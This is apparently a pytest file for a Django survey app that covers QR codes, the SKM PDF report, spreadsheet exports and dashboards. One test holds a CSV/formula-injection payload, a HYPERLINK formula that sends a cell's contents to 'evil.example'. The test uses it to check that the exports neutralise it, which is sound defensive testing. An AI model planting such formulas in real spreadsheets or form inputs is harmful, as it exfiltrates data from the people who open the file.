"""QR codes that lead to the form, the SKM report as PDF, and the raw responses as XLSX."""

import csv
import io
import xml.etree.ElementTree as ET

import pytest
import segno
from django.test import override_settings
from django.urls import reverse
from openpyxl import load_workbook
from PIL import Image
from pypdf import PdfReader

from satu.surveys import services
from satu.surveys.elements import STANDARD_KEYS
from satu.surveys.qr import form_url

from .conftest import respond
from .test_ikm import HAND_WORKED

pytestmark = pytest.mark.django_db


def modules_of_png(data: bytes, scale: int = 10, border: int = 4) -> list[list[bool]]:
    """Read the dark modules back from a rendered QR code image."""
    image = Image.open(io.BytesIO(data)).convert("L")
    size = image.width // scale - 2 * border
    return [
        [
            image.getpixel(((border + x) * scale + scale // 2, (border + y) * scale + scale // 2))
            < 128
            for x in range(size)
        ]
        for y in range(size)
    ]


@override_settings(SATU_BASE_URL="https://inovasi.jatengprov.go.id")
def test_the_qr_png_encodes_the_public_address_of_the_form(client, operator, period_a):
    client.force_login(operator)
    response = client.get(reverse("surveys:qr", args=[period_a.pk, "png"]))
    assert response.status_code == 200 and response["Content-Type"] == "image/png"
    expected_url = f"https://inovasi.jatengprov.go.id/survei/{period_a.code}/"
    assert form_url(period_a) == expected_url
    expected = segno.make(expected_url, error="m", micro=False)
    assert modules_of_png(response.content) == [[bool(v) for v in row] for row in expected.matrix]
    other = segno.make(expected_url + "x", error="m", micro=False)
    assert modules_of_png(response.content) != [[bool(v) for v in row] for row in other.matrix]


def test_the_qr_svg_is_a_valid_svg_document(client, operator, period_a):
    client.force_login(operator)
    response = client.get(reverse("surveys:qr", args=[period_a.pk, "svg"]))
    assert response["Content-Type"] == "image/svg+xml"
    root = ET.fromstring(response.content)
    assert root.tag == "{http://www.w3.org/2000/svg}svg"
    assert root.find("{http://www.w3.org/2000/svg}path") is not None


def test_a_receipt_slip_qr_code_carries_its_code(client, operator, period_a):
    batch = services.generate_tokens(operator, period_a, 2)
    client.force_login(operator)
    page = client.get(reverse("surveys:tokens_print", args=[period_a.pk, batch]))
    html = page.content.decode()
    for token in period_a.tokens.all():
        assert token.display_code in html
    assert html.count("<svg") == 2
    assert form_url(period_a, "ABCD2345").endswith(f"/survei/{period_a.code}/?t=ABCD2345")


def pdf_text(data: bytes) -> str:
    """The text of every page of a PDF, read by pypdf (pure Python: nothing to install)."""
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def test_the_pdf_report_has_the_shape_of_the_skm_report(client, operator, period_a):
    period_a.services = ["Izin praktik"]
    period_a.save()
    responses = respond(period_a, HAND_WORKED, age_group="30-39", sex="p")
    responses[0].suggestion = "Perbanyak kursi ruang tunggu"
    responses[0].save()
    client.force_login(operator)
    response = client.get(reverse("surveys:report", args=[period_a.pk]))
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF-")
    text = " ".join(pdf_text(response.content).split())
    assert "LAPORAN HASIL SURVEI KEPUASAN MASYARAKAT" in text
    assert period_a.unit.name in text
    assert "80,56" in text  # the converted index, Indonesian decimal comma
    assert "Baik" in text and "Mutu pelayanan" in text
    assert "Waktu Penyelesaian" in text and "2,50" in text
    assert "Kelompok umur" in text and "30–39 tahun" in text
    assert "Perbanyak kursi ruang tunggu" in text
    assert "Sampel minimal untuk perkiraan populasi 500 adalah 217" in text


def test_the_raw_responses_download_as_xlsx(client, operator, period_a):
    respond(period_a, HAND_WORKED, sex="l")
    client.force_login(operator)
    response = client.get(reverse("surveys:responses", args=[period_a.pk, "xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0][:4] == ["No.", "Tanggal", "Saluran", "Persyaratan"]
    assert len(rows) == 1 + len(HAND_WORKED)
    first = rows[1]
    assert first[3 : 3 + len(STANDARD_KEYS)] == list(HAND_WORKED[0])
    assert "Laki-laki" in first
    assert first[-1] == round(25 * sum(HAND_WORKED[0]) / 9, 2)


def test_the_csv_download_names_columns_by_key(client, operator, period_a):
    respond(period_a, HAND_WORKED)
    client.force_login(operator)
    response = client.get(reverse("surveys:responses", args=[period_a.pk, "csv"]))
    header = b"".join(response.streaming_content).decode("utf-8-sig").splitlines()[0]
    assert header.split(",")[3:12] == list(STANDARD_KEYS)


def test_an_anonymous_suggestion_is_downloaded_as_text_not_as_a_formula(client, operator, period_a):
    attack = '=HYPERLINK("https://evil.example/?d="&D2,"Klik untuk detail")'
    answers = dict(zip(STANDARD_KEYS, ["4", "3", "2", "4", "3", "3", "4", "2", "3"], strict=True))
    sent = client.post(
        reverse("surveys:form", args=[period_a.code]),
        {**answers, "website": "", "suggestion": attack},
        REMOTE_ADDR="10.1.2.3",
    )
    assert sent.status_code == 302
    client.force_login(operator)

    xlsx = client.get(reverse("surveys:responses", args=[period_a.pk, "xlsx"]))
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    [suggestion] = [cell for cell in sheet[2] if cell.value == attack]
    assert suggestion.data_type == "s"
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)

    download = client.get(reverse("surveys:responses", args=[period_a.pk, "csv"]))
    text = b"".join(download.streaming_content).decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text)))
    assert row[header.index("saran")] == "'" + attack


def test_the_period_page_shows_progress_towards_the_minimum_sample(client, operator, period_a):
    respond(period_a, HAND_WORKED)
    client.force_login(operator)
    page = client.get(reverse("surveys:period", args=[period_a.pk]))
    html = page.content.decode()
    assert page.context["minimum_sample"] == 217
    assert '<progress class="progress" max="217" value="4"' in html
    assert page.context["result"].converted == page.context["result"].converted.__class__("80.56")


def test_the_unit_dashboard_highlights_the_weakest_elements(client, operator, period_a):
    respond(period_a, HAND_WORKED)
    client.force_login(operator)
    page = client.get(reverse("surveys:unit", args=[period_a.unit_id]))
    rows = {element.key: cells for element, cells in page.context["rows"]}
    assert rows["waktu"][0] == (rows["waktu"][0][0], True)
    assert rows["pengaduan"][0][1] and rows["prosedur"][0][1]
    assert not rows["biaya"][0][1]
    assert "<svg" in page.content.decode()


def test_the_rollup_page_and_its_download(client, secretariat, period_a, period_k):
    respond(period_a, [(4,) * 9])
    respond(period_k, [(2,) * 9] * 3)
    client.force_login(secretariat)
    page = client.get(reverse("surveys:rollup"), {"region": "33", "level": "region"})
    assert page.status_code == 200
    assert page.context["total"].result.respondents == 4
    names = [row.name for row in page.context["rows"]]
    assert "Kota Semarang" in names
    download = client.get(reverse("surveys:rollup"), {"region": "33", "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(download.content)).active
    assert sheet.max_row == 1 + len(names)
